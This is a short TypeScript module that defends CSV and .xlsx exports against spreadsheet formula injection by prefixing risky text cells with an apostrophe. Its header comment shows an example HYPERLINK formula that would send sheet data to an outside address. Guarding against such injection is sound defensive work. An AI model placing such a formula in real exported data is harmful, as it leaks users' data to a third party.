// Text cells for CSV and .xlsx downloads, made inert: a spreadsheet runs a cell that starts with
// = + - @ (or a tab / carriage return before one) as a formula, so an org named
// =HYPERLINK("http://…?leak="&A3,"点击查看") would send the sheet's data away when the file is opened
// (CSV), or when the cell is edited (xlsx). Such text gets a leading apostrophe (OWASP's advice: shown,
// never run). Plain numbers ('-12', '-3.5%', '+1,200') stay as they are: they are data, not formulas.
// Every export and download goes through this: child-table CSV/xlsx, the auditor's CSV/xlsx, the
// upload reject report.

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[-+]?(\d[\d,]*)(\.\d+)?%?$/;

/** The text as a spreadsheet should keep it: prefixed with ' when it would run as a formula. */
export function inertText(s: string): string {
  return FORMULA_START.test(s) && !PLAIN_NUMBER.test(s) ? `'${s}` : s;
}

/** For cell values that may be numbers, booleans, dates or null: only text is touched. */
export function inertCell<T>(v: T): T | string {
  return typeof v === 'string' ? inertText(v) : v;
}
